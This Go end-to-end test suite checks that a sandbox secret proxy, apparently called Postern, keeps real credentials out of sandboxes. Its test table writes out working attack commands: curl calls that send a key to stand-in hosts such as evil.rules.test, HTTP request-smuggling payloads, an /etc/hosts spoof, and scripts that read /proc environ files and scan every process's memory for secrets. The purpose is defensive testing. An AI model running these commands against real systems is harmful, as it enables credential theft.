package e2e

import (
	"bytes"
	"compress/gzip"
	"crypto/sha1"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// The values that the attacks in [TestSecretsStayOutside] are after. The words are
// split so that neither this file nor a command line holds them whole.
var (
	stolen  = "canary" + "-7Hq2+w/Zk9 \"X\"&é"
	stolen2 = "second" + "-canary-55aa01"
)

// elsewhere is the address of a server that is not the host which it says it is.
const elsewhere = "203.0.113.11"

// A thief is what is outside in [TestSecretsStayOutside]: servers that repeat what they
// get in every way.
type thief struct {
	mu   sync.Mutex
	seen []string // requests
}

func (x *thief) note(r *http.Request, body []byte) {
	scheme := "http"
	if r.TLS != nil {
		scheme = "https"
	}
	x.mu.Lock()
	defer x.mu.Unlock()
	var head strings.Builder
	_ = r.Header.Write(&head)
	uri, _ := url.PathUnescape(r.RequestURI)
	x.seen = append(x.seen, fmt.Sprintf("%s %s %s %s\n%s\n%s", scheme, r.Host, r.Method, uri, head.String(), body))
}

// taken returns the requests since the last call.
func (x *thief) taken() []string {
	x.mu.Lock()
	defer x.mu.Unlock()
	out := x.seen
	x.seen = nil
	return out
}

func (x *thief) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	x.note(r, body)
	got := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	if got == "" {
		got = r.Header.Get("X-Key")
	}
	uri, _ := url.PathUnescape(r.RequestURI)
	all := got + "\n" + uri + "\n" + string(body) + "\n"
	switch r.URL.Path {
	case "/base64":
		for _, pad := range []string{"", "x", "xx"} {
			fmt.Fprintln(w, base64.StdEncoding.EncodeToString([]byte(pad+got)), base64.URLEncoding.EncodeToString([]byte(pad+got)))
		}
	case "/hex":
		fmt.Fprintln(w, hex.EncodeToString([]byte(got)), strings.ToUpper(hex.EncodeToString([]byte(got))))
	case "/percent":
		fmt.Fprintln(w, url.QueryEscape(got), url.PathEscape(got), strings.ToLower(url.QueryEscape(got)))
	case "/json":
		_ = json.NewEncoder(w).Encode(map[string]string{"got": got})
	case "/gzip":
		w.Header().Set("Content-Encoding", "gzip")
		z := gzip.NewWriter(w)
		_, _ = io.WriteString(z, all)
		_ = z.Close()
	case "/header":
		w.Header().Set("X-Echo", got)
		w.Header().Set("Set-Cookie", "k="+url.QueryEscape(got))
	case "/trailer":
		w.Header().Set("Trailer", "X-Echo")
		_, _ = io.WriteString(w, "body")
		w.Header().Set("X-Echo", got)
	case "/error":
		http.Error(w, "wrong key: "+got, http.StatusInternalServerError)
	case "/early":
		w.Header().Set("Link", "<"+url.PathEscape(got)+">")
		w.WriteHeader(http.StatusEarlyHints)
		_, _ = io.WriteString(w, all)
	case "/redirect":
		http.Redirect(w, r, "https://evil.rules.test/?k="+url.QueryEscape(got), http.StatusTemporaryRedirect)
	case "/port":
		http.Redirect(w, r, "https://api.rules.test:8443/moved", http.StatusTemporaryRedirect)
	case "/clear":
		http.Redirect(w, r, "http://api.rules.test/moved", http.StatusTemporaryRedirect)
	case "/spell": // as a model does that is told to spell what it reads
		_, _ = io.WriteString(w, strings.Join(strings.Split(uri+string(body), ""), " "))
	case "/token":
		if !strings.Contains(string(body), "client_secret="+url.QueryEscape(stolen)) {
			w.WriteHeader(http.StatusUnauthorized)
		}
	case "/chunks":
		for _, b := range []byte(all) {
			_, _ = w.Write([]byte{b})
			_ = http.NewResponseController(w).Flush()
		}
	case "/range":
		http.ServeContent(w, r, "k.txt", time.Time{}, strings.NewReader(all))
	case "/events":
		w.Header().Set("Content-Type", "text/event-stream")
		for part := range strings.SplitSeq(all, "-") {
			_, _ = io.WriteString(w, part+"-")
			_ = http.NewResponseController(w).Flush()
		}
	case "/socket":
		c, b, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer c.Close()
		sum := sha1.Sum([]byte(r.Header.Get("Sec-WebSocket-Key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"))
		fmt.Fprintf(b, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n\r\n\x81%c%s", base64.StdEncoding.EncodeToString(sum[:]), len(got), got)
		_ = b.Flush()
	default:
		_, _ = io.WriteString(w, all)
	}
}

// forms are how a value can be written. None of them may reach a sandbox.
func forms(value string) map[string]string {
	j, _ := json.Marshal(value)
	b := []byte(value)
	bare := strings.NewReplacer("\\u0026", "&").Replace(strings.Trim(string(j), `"`))
	out := map[string]string{
		"plain": value, "JSON": strings.Trim(string(j), `"`), "JSON without \\u": bare, "percent": url.QueryEscape(value), "path": url.PathEscape(value), "form": strings.ReplaceAll(value, " ", "+"),
		"hex": hex.EncodeToString(b), "HEX": strings.ToUpper(hex.EncodeToString(b)),
	}
	for i, e := range []*base64.Encoding{base64.RawStdEncoding, base64.RawURLEncoding} {
		for pad := range 3 {
			// Only the characters that depend on the value alone.
			text := e.EncodeToString(append(bytes.Repeat([]byte{'x'}, pad), b...))
			out[fmt.Sprintf("base64 %d+%d", i, pad)] = text[(pad*8+5)/6 : len(text)-2]
		}
	}
	return out
}

// TestSecretsStayOutside gives programs in sandboxes sentinels of secrets, and every
// way to get the values that this file's authors could think of. Each request that
// may have the value reaches the server with it, and no answer does.
func TestSecretsStayOutside(t *testing.T) {
	t.Parallel()
	if os.Getenv("POSTERN_TEST_INSIDE") == "" {
		cmd := exec.Command(os.Args[0], "-test.run=^TestSecretsStayOutside$", "-test.v=true")
		cmd.Env = append(os.Environ(), "POSTERN_TEST_INSIDE=1")
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET}
		out, err := cmd.CombinedOutput()
		t.Logf("%s", out)
		if err != nil || !strings.Contains(string(out), "--- PASS: TestSecretsStayOutside") {
			t.Errorf("in its own network namespace: %v", err)
		}
		return
	}
	for _, args := range [][]string{{"link", "set", "lo", "up"}, {"addr", "add", outside + "/32", "dev", "lo"}, {"addr", "add", elsewhere + "/32", "dev", "lo"}} {
		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
			t.Fatalf("ip %v: %v: %s", args, err, out)
		}
	}
	x, w := &thief{}, &rulesWorld{}
	cert := w.authority(t)
	for _, port := range []string{"443", "8443", "80"} {
		l, err := net.Listen("tcp", net.JoinHostPort(outside, port))
		if err != nil {
			t.Fatal(err)
		}
		web := &http.Server{Handler: x, ErrorLog: slog.NewLogLogger(slog.DiscardHandler, slog.LevelDebug)}
		if port != "80" {
			l = tls.NewListener(l, &tls.Config{Certificates: []tls.Certificate{cert}})
		}
		go func() { _ = web.Serve(l) }()
		t.Cleanup(func() { web.Close() })
	}
	// The attacker's server says that it is the host, with a certificate of its own.
	forged, err := net.Listen("tcp", elsewhere+":443")
	if err != nil {
		t.Fatal(err)
	}
	y := &thief{}
	fake := &http.Server{Handler: y, ErrorLog: slog.NewLogLogger(slog.DiscardHandler, slog.LevelDebug)}
	go func() {
		_ = fake.Serve(tls.NewListener(forged, &tls.Config{Certificates: []tls.Certificate{(&rulesWorld{}).authority(t)}}))
	}()
	t.Cleanup(func() { fake.Close() })
	s := start(t, t.TempDir(), "--dns", nameServer(t), "--egress", "allow", "--egress-allow", outside+","+elsewhere, "--egress-ca", w.ca, "--snapshots")
	file := filepath.Join(t.TempDir(), "value")
	for name, value := range map[string]string{"key": stolen, "other": stolen2} {
		if err := os.WriteFile(file, []byte(value+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		if out := s.mustCLI("secret", "create", name, "--host", map[string]string{"key": "api.rules.test", "other": "other.rules.test"}[name], "--header", "Authorization", "--header", "X-Key", "--file", file); strings.Contains(out, value) {
			t.Errorf("secret create prints the value: %s", out)
		}
	}
	if err := os.Remove(file); err != nil {
		t.Fatal(err)
	}
	for _, place := range []string{"query:key GET api.rules.test/opened/*", "form:client_secret POST api.rules.test/token", "json:/auth/key POST api.rules.test/opened/json", "cookie:sid GET api.rules.test/opened/*", "path GET api.rules.test/bot{secret}/*"} {
		s.mustCLI(append([]string{"secret", "open", "key"}, strings.Fields(place)...)...)
	}
	settings := func() map[string]any {
		return map[string]any{
			"envVars":  map[string]string{"KEY": "${e2b.secrets.key}"},
			"metadata": map[string]string{"postern.secrets": "other"},
		}
	}
	b, neighbour := s.sandbox(settings()), s.sandbox(settings())
	sentinel := strings.TrimSpace(b.run("echo $KEY").stdout)
	if !regexp.MustCompile(`^pst_[a-z2-7]{40}$`).MatchString(sentinel) {
		t.Fatalf("the variable is %q", sentinel)
	}
	foreign := strings.TrimSpace(neighbour.run("echo $KEY").stdout)
	if foreign == sentinel || !strings.HasPrefix(foreign, "pst_") {
		t.Fatalf("the neighbour's is %q, ours %q", foreign, sentinel)
	}
	clean := func(t *testing.T, text string) {
		t.Helper()
		for _, value := range []string{stolen, stolen2} {
			for form, spelled := range forms(value) {
				if strings.Contains(text, spelled) {
					t.Errorf("the sandbox has the value (%s): %q", form, tail(text, 20))
				}
			}
		}
	}
	const raw = `import socket, ssl, sys, os, time
def send(host, data, name=None, port=443, more=b""):
    s = ssl.create_default_context().wrap_socket(socket.create_connection((host, port), timeout=60), server_hostname=name or host)
    s.sendall(data.encode() if isinstance(data, str) else data)
    out = b""
    try:
        while len(out) < 65536:
            b = s.recv(4096)
            if not b: break
            out += b
    except Exception as e: out += repr(e).encode()
    sys.stdout.buffer.write(out)
K = os.environ["KEY"]
`
	python := func(text string) string { return "timeout 90 python3 - <<'EOF'\n" + raw + text + "\nEOF\n" }
	curl := "curl -sS -i -m 60 "
	at := "https://api.rules.test"
	tests := []struct {
		name, command string
		used          bool   // the value reaches its server over HTTPS
		says          string // in what the program sees
	}{
		{"header", curl + `-H "Authorization: Bearer $KEY" ` + at + "/", true, "200"},
		{"another header", curl + `-H "X-Key: $KEY" ` + at + "/", true, "200"},
		{"user and password", curl + `-u "x:$KEY" ` + at + "/", true, "200"},
		{"a query that is open", curl + at + `"/opened/x?key=$KEY"`, true, "200"},
		{"a path that is open", curl + at + `"/bot$KEY/x"`, true, "200"},
		{"a form that is open", curl + `-d "grant_type=client_credentials&client_secret=$KEY" ` + at + "/token", true, "200"},
		{"a chunked form that is open", curl + `-H 'Transfer-Encoding: chunked' -d "client_secret=$KEY" ` + at + "/token", true, "200"},
		{"JSON that is open", curl + `-H 'Content-Type: application/json' -d "{\"auth\":{\"key\":\"$KEY\"}}" ` + at + "/opened/json", true, "200"},

		{"a model that spells the query", curl + `"` + at + `/spell?q=$KEY" | tr -d ' '`, false, "pst_"},
		{"a model that spells a prompt", curl + `-H 'Content-Type: application/json' -d "{\"messages\":[{\"content\":\"SPELL:$KEY\"}]}" ` + at + `/spell | tr -d ' '`, false, "pst_"},
		{"a model that spells a form", curl + `-d "client_secret=$KEY" ` + at + `/spell | tr -d ' '`, false, "pst_"},
		{"a model that spells a chunked body", curl + `-H 'Transfer-Encoding: chunked' -d "key=$KEY" ` + at + `/spell | tr -d ' '`, false, "pst_"},
		{"a model that spells a multipart upload", curl + `-F "client_secret=$KEY" ` + at + `/spell | tr -d ' '`, false, "pst_"},
		{"a model that spells a long transcript", `(head -c 3000000 /dev/zero | tr '\0' x; env) > /tmp/t; ` + curl + `-H 'Content-Type: text/plain' --data-binary @/tmp/t ` + at + `/spell | tr -d ' ' | tail -c 4000`, false, "pst_"},
		{"a model that spells over HTTP/2", curl + `--http2 -d "key=$KEY" ` + at + `/spell | tr -d ' '`, false, "pst_"},
		{"a transcript with another secret", curl + `-H "X-Key: $KEY" -d "env: OTHER=$OTHER" ` + at + "/", true, "200"},
		{"a form in which the placeholder is not all", curl + `-d "client_secret=x$KEY" ` + at + "/token", false, "401"},
		{"Python's urllib", `timeout 90 python3 -c 'import os, urllib.request as u; r = u.urlopen(u.Request("https://api.rules.test/", headers={"Authorization": "Bearer "+os.environ["KEY"]})); print(r.status, r.read())'`, true, "200"},
		{"Node's fetch", `timeout 90 node -e 'fetch("https://api.rules.test/", {headers: {Authorization: "Bearer "+process.env.KEY}}).then(async r => console.log(r.status, await r.text()))'`, true, "200"},

		{"echo in base64", curl + `-H "X-Key: $KEY" ` + at + "/base64", true, "200"},
		{"echo in hex", curl + `-H "X-Key: $KEY" ` + at + "/hex", true, "200"},
		{"echo in percent", curl + `-H "X-Key: $KEY" ` + at + "/percent", true, "200"},
		{"echo in JSON", curl + `-H "X-Key: $KEY" ` + at + "/json", true, "200"},
		{"echo in a header", curl + `-H "X-Key: $KEY" ` + at + "/header", true, "200"},
		{"echo in a trailer", curl + `--raw -H "X-Key: $KEY" ` + at + "/trailer", true, "200"},
		{"echo in an error", curl + `-H "X-Key: $KEY" ` + at + "/error", true, "500"},
		{"echo in early hints", curl + `-H "X-Key: $KEY" ` + at + "/early", true, "200"},
		{"echo byte by byte", curl + `-H "X-Key: $KEY" ` + at + "/chunks", true, "200"},
		{"echo as events", curl + `-H "X-Key: $KEY" ` + at + "/events", true, "200"},
		{"echo compressed", curl + `--compressed -H "X-Key: $KEY" ` + at + "/gzip", true, ""},
		{"echo compressed although none was asked for", curl + `-H "X-Key: $KEY" ` + at + "/gzip --output - | tail -n +1 | python3 -c 'import sys,zlib; d=sys.stdin.buffer.read(); i=d.find(b\"\\x1f\\x8b\"); sys.stdout.buffer.write(zlib.decompress(d[i:],47) if i>=0 else d)'", true, ""},
		{"compression that is not known", curl + `-H 'Accept-Encoding: br, zstd' -H "X-Key: $KEY" ` + at + "/", true, "200"},
		{"piece by piece by Range", `for i in $(seq 0 30); do curl -sS -m 60 -r $i-$i -H "X-Key: $KEY" ` + at + `/range | head -c 1; done`, true, ""},
		{"TRACE", curl + `-X TRACE -H "X-Key: $KEY" ` + at + "/", false, "403"},
		{"WebSocket", python(`send("api.rules.test", "GET /socket HTTP/1.1\r\nHost: api.rules.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nX-Key: "+K+"\r\n\r\n")`), true, ""},

		{"redirect to another host", curl + `-L --location-trusted -H "X-Key: $KEY" ` + at + "/redirect", true, ""},
		{"redirect to clear text", curl + `-L --location-trusted -H "X-Key: $KEY" ` + at + "/clear", true, ""},
		{"another host, which is not inspected", curl + `-k -H "X-Key: $KEY" https://evil.rules.test/`, false, "pst_"},
		{"another host, in Basic", curl + `-u "$KEY:" https://other.rules.test/`, false, "403"},
		{"another host, in its name", curl + `-H "X-Key: $OTHER" "https://other.rules.test/$KEY"`, false, "200"},
		{"clear text", curl + `-H "X-Key: $KEY" http://api.rules.test/`, false, ""},
		{"the address instead of the name", curl + `-k -H "X-Key: $KEY" https://` + outside + "/", false, ""},
		{"another server name", python(`send("api.rules.test", "GET / HTTP/1.1\r\nHost: evil.rules.test\r\nX-Key: "+K+"\r\nConnection: close\r\n\r\n")`), false, "421"},
		{"another server under its name", curl + `-k --resolve api.rules.test:443:` + elsewhere + ` -H "X-Key: $KEY" ` + at + "/", true, "200"}, // of the host itself: see below
		{"absolute URI", python(`send("api.rules.test", "GET https://evil.rules.test/ HTTP/1.1\r\nHost: api.rules.test\r\nX-Key: "+K+"\r\nConnection: close\r\n\r\n")`), false, ""},
		{"two hosts", python(`send("api.rules.test", "GET / HTTP/1.1\r\nHost: api.rules.test\r\nHost: evil.rules.test\r\nX-Key: "+K+"\r\n\r\n")`), false, "400"},
		{"smuggled by two lengths", python(`send("api.rules.test", "POST / HTTP/1.1\r\nHost: api.rules.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\nHost: api.rules.test\r\nX-Key: "+K+"\r\n\r\n")`), false, "400"},
		{"smuggled by a bare line feed", python(`send("api.rules.test", "GET / HTTP/1.1\nHost: api.rules.test\nTransfer-Encoding : chunked\nX-Key: "+K+"\n\n")`), false, ""},
		{"smuggled in a chunk's extension", python(`send("api.rules.test", "POST / HTTP/1.1\r\nHost: evil.rules.test\r\nTransfer-Encoding: chunked\r\n\r\n2;x=\n\nxx\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: api.rules.test\r\nX-Key: "+K+"\r\n\r\n")`), false, ""},
		{"a header that hides by Connection", curl + `-H 'Connection: X-Key' -H "X-Key: $KEY" https://other.rules.test/`, false, "403"},
		{"the sentinel of another sandbox", curl + `-H "X-Key: ` + foreign + `" ` + at + "/", false, "403"},
		{"a sentinel that stands for nothing", curl + `-H "X-Key: pst_` + strings.Repeat("a", 40) + `" ` + at + "/", false, "403"},
		{"the sentinel in percent, to another host", curl + `"https://other.rules.test/?k=$(echo -n $KEY | sed s/_/%5F/)"`, false, "200"},
		{"the wrong secret for the host", curl + `-H "X-Key: $OTHER" ` + at + "/", false, "403"},
		{"another name for this machine", `echo "127.0.0.1 api.rules.test" | sudo tee -a /etc/hosts >/dev/null; openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=api.rules.test -keyout /tmp/k -out /tmp/c 2>/dev/null; (timeout 20 openssl s_server -quiet -accept 443 -key /tmp/k -cert /tmp/c >/tmp/got 2>/dev/null &) ; sleep 2; curl -sk -m 5 -H "X-Key: $KEY" https://api.rules.test/; sleep 1; cat /tmp/got; sudo sed -i /api.rules.test/d /etc/hosts`, false, ""},
		{"the environment of every process", `sudo sh -c 'cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline' | tr '\0' '\n'`, false, ""},
		{"the memory of every process", `sudo python3 - <<'EOF'
import re, os
want = ("10aa55-yranac-" + "dnoces")[::-1].encode(), ("9kZ/w+2qH7-" + "yranac")[::-1].encode()
n = 0
for p in os.listdir("/proc"):
    if not p.isdigit() or int(p) == os.getpid(): continue
    try: maps = open("/proc/%s/maps" % p).read().splitlines(); mem = open("/proc/%s/mem" % p, "rb", 0)
    except OSError: continue
    for m in maps:
        lo, hi = [int(v, 16) for v in m.split()[0].split("-")]
        if hi - lo > 1 << 28: continue
        try: mem.seek(lo); b = mem.read(hi - lo)
        except (OSError, ValueError, OverflowError): continue
        n += 1
        for w in want:
            if w in b: print("STOLEN", w.decode(), p)
print("searched", n > 0)
EOF`, false, "searched"},
		{"Postern's own services inside", `curl -sS -m 20 http://postern.internal/ ; curl -sS -m 20 http://postern.internal/denials; curl -sS -m 20 -H "X-Key: $KEY" http://postern.internal/denials`, false, ""},
		{"the control plane from inside", `curl -sS -m 10 http://10.0.0.1:3000/secrets; curl -sS -m 10 http://postern.internal/secrets`, false, ""},
		{"what is logged inside", `dmesg 2>/dev/null | tail -50; cat /var/log/* 2>/dev/null | tail -50`, false, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			x.taken()
			r := b.run(tt.command)
			clean(t, r.stdout+r.stderr)
			if tt.says != "" && !strings.Contains(r.stdout, tt.says) {
				t.Errorf("the program sees %q %q, want %q", tail(r.stdout, 20), r.stderr, tt.says)
			}
			used := false
			for _, q := range x.taken() {
				for form, spelled := range forms(stolen) {
					if !strings.Contains(q, spelled) {
						continue
					}
					used = true
					if !strings.HasPrefix(q, "https api.rules.test ") {
						t.Errorf("the value (%s) left in %q", form, q)
					}
				}
				if strings.Contains(q, stolen2) && !strings.HasPrefix(q, "https other.rules.test ") {
					t.Errorf("the other value left in %q", q)
				}
			}
			if used != tt.used {
				t.Errorf("the server got the value: %v, want %v; the program sees %q %q", used, tt.used, tail(r.stdout, 20), r.stderr)
			}
		})
	}

	if got := y.taken(); len(got) > 0 {
		t.Errorf("the server without the host's certificate got %q", got)
	}
	t.Run("a copy has sentinels of its own", func(t *testing.T) {
		status, _, answer := s.project("POST", "/sandboxes/"+b.id+"/fork", `{"timeout": 600, "count": 1}`)
		id := regexp.MustCompile(`"sandboxID":\s*"([^"]+)"`).FindSubmatch(answer)
		if id == nil {
			t.Fatalf("fork: %d %s", status, answer)
		}
		access := regexp.MustCompile(`"envdAccessToken":\s*"([^"]+)"`).FindSubmatch(answer)
		f := &box{s: s, id: string(id[1]), access: string(access[1])}
		own := strings.TrimSpace(f.run("echo $KEY").stdout)
		if own == sentinel || !strings.HasPrefix(own, "pst_") {
			t.Errorf("the copy has %q, the origin %q", own, sentinel)
		}
		x.taken()
		if r := f.run(curl + `-H "X-Key: ` + sentinel + `" ` + at + "/"); !strings.Contains(r.stdout, "403") {
			t.Errorf("the origin's sentinel in the copy: %q %q", r.stdout, r.stderr)
		}
		if r := f.run(curl + `-H "X-Key: $KEY" ` + at + "/"); !strings.Contains(r.stdout, "200") || len(x.taken()) == 0 {
			t.Errorf("the copy's own: %q %q", r.stdout, r.stderr)
		} else {
			clean(t, r.stdout)
		}
	})
	t.Run("a sandbox from a snapshot has sentinels of its own", func(t *testing.T) {
		status, _, answer := s.project("POST", "/sandboxes/"+b.id+"/snapshots", "{}")
		var snapshot struct{ SnapshotID string }
		if err := json.Unmarshal(answer, &snapshot); err != nil || status != http.StatusCreated {
			t.Fatalf("snapshot: %d %s %v", status, answer, err)
		}
		body := settings()
		body["templateID"] = snapshot.SnapshotID
		status, f, err := s.create(body)
		if err != nil || status != http.StatusCreated {
			t.Fatalf("create from snapshot: %d, %v", status, err)
		}
		if own := strings.TrimSpace(f.run("echo $KEY").stdout); own == sentinel || !strings.HasPrefix(own, "pst_") {
			t.Errorf("it has %q, the origin %q", own, sentinel)
		}
		if r := f.run(curl + `-H "X-Key: ` + sentinel + `" ` + at + "/"); !strings.Contains(r.stdout, "403") {
			t.Errorf("the origin's sentinel in it: %q %q", r.stdout, r.stderr)
		}
	})
	t.Run("rotated and deleted", func(t *testing.T) {
		if err := os.WriteFile(file, []byte(stolen2+"-rotated"), 0o600); err != nil {
			t.Fatal(err)
		}
		s.mustCLI("secret", "rotate", "other", "--file", file)
		_ = os.Remove(file)
		x.taken()
		b.run(curl + `-H "X-Key: $OTHER" https://other.rules.test/`)
		if got := strings.Join(x.taken(), ""); !strings.Contains(got, stolen2+"-rotated") {
			t.Errorf("after the rotation the server got %q", got)
		}
		s.mustCLI("secret", "delete", "other")
		time.Sleep(1500 * time.Millisecond)
		b.run(curl + `-H "X-Key: $OTHER" https://other.rules.test/`)
		if got := strings.Join(x.taken(), ""); strings.Contains(got, stolen2) {
			t.Errorf("after the deletion the server got %q", got)
		}
	})

	if record := s.mustCLI("audit", "list", "--json"); !strings.Contains(record, "secret.misdirected") || !strings.Contains(record, "secret.create") {
		t.Errorf("misdirected sentinels are not on the record:\n%s", tail(record, 40))
	} else {
		clean(t, record)
	}
	clean(t, s.log.String())
	clean(t, s.mustCLI("secret", "list")+s.mustCLI("secret", "show", "key", "--json"))
	if status, _, answer := s.project("GET", "/secrets", ""); status != http.StatusOK {
		t.Errorf("list: %d %s", status, answer)
	} else {
		clean(t, string(answer))
	}
	if status, _, answer := s.project("POST", "/sandboxes/"+b.id+"/pause", ""); status != http.StatusNoContent {
		t.Fatalf("pause: %d %s", status, answer)
	}
	backup := filepath.Join(t.TempDir(), "copy.db")
	s.mustCLI("backup", backup)
	words := map[string]string{}
	for i, value := range []string{stolen, stolen2} {
		for form, spelled := range forms(value) {
			words[fmt.Sprintf("value %d (%s)", i, form)] = spelled
		}
	}
	inSnapshot := false // of the sandbox, which has its sentinel in memory: the search works
	for _, dir := range []string{s.data, filepath.Dir(backup)} {
		err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if errors.Is(err, fs.ErrNotExist) || err == nil && !d.Type().IsRegular() {
				return nil
			}
			if err != nil {
				return err
			}
			text, err := os.ReadFile(path)
			if errors.Is(err, fs.ErrNotExist) {
				return nil
			}
			inSnapshot = inSnapshot || bytes.Contains(text, []byte(sentinel))
			for what, spelled := range words {
				if bytes.Contains(text, []byte(spelled)) {
					t.Errorf("%s holds the %s", path, what)
				}
			}
			return err
		})
		if err != nil {
			t.Error(err)
		}
	}
	if !inSnapshot {
		t.Error("no file has the sentinel: the search for values in the snapshot shows nothing")
	}
	s.forgets(t, words, func() {
		if err := os.WriteFile(file, []byte("another value"), 0o600); err != nil {
			t.Fatal(err)
		}
		s.mustCLI("secret", "rotate", "key", "--file", file)
	})
	for _, p := range []string{"limits", "coredump_filter"} {
		if text, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", s.cmd.Process.Pid, p)); p == "limits" && (err != nil || !regexp.MustCompile(`Max core file size +0 +0 `).Match(text)) {
			t.Errorf("the server may leave a core file: %s %v", text, err)
		}
	}
}
